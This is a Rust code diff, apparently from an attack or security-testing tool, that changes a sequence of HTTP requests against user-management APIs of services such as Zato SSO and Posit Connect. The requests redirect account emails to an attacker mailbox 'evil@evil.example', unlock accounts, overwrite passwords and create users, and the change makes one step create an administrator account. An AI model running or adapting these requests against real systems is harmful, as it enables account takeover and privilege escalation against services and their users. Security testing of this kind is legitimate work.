@@ -54,7 +54,7 @@ struct Walk<'a> {
     done: usize,
 }
 
-/// How often somebody has written to the attacker's mailbox.
+/// The attacker's mailbox.
 const MAILBOX: &str = "evil@evil.example";
 
 impl Walk<'_> {
@@ -193,16 +193,18 @@ impl Walk<'_> {
                 let linked = plain.with("authorization", &format!("Basic {secret}")).with("x-zato-sso-current-app", "CRM");
                 linked.get("/zato/sso/user")
             }
-            // Connect's clients make administrators by a key on purpose: that is told to the others by letter, and left out here.
             39 => {
                 client.put(&format!("/__api__/v1/users/{id}"), &json!({"email": MAILBOX, "username": format!("{name}-{value}")}))
             }
             40 => client.post(&format!("/__api__/v1/users/{id}/lock"), &json!({"locked": false})),
             41 => client.put(&format!("/__api__/v1/users/{id}"), &json!({"user_role": "viewer"})),
-            42 => client.post(
-                "/__api__/v1/users",
-                &json!({"username": name_of("posit"), "email": MAILBOX, "password": EVIL, "user_role": "publisher"}),
-            ),
+            42 => {
+                // Connect's clients make administrators by a key on purpose, which the others are told by letter. Nothing else does.
+                let role = if matches!(self.hold, Hold::Key) { "publisher" } else { "administrator" };
+                let name = name_of("posit");
+                client
+                    .post("/__api__/v1/users", &json!({"username": name, "email": MAILBOX, "password": EVIL, "user_role": role}))
+            }
             43 => client.patch(&format!("/ecm/security/user/{}", id.to_uppercase()), &json!({"password": EVIL})),
             44 => client.patch(&format!("/ecm/security/user/{}", id.to_uppercase()), &json!({"email": MAILBOX, "locked": false})),
             45 => {
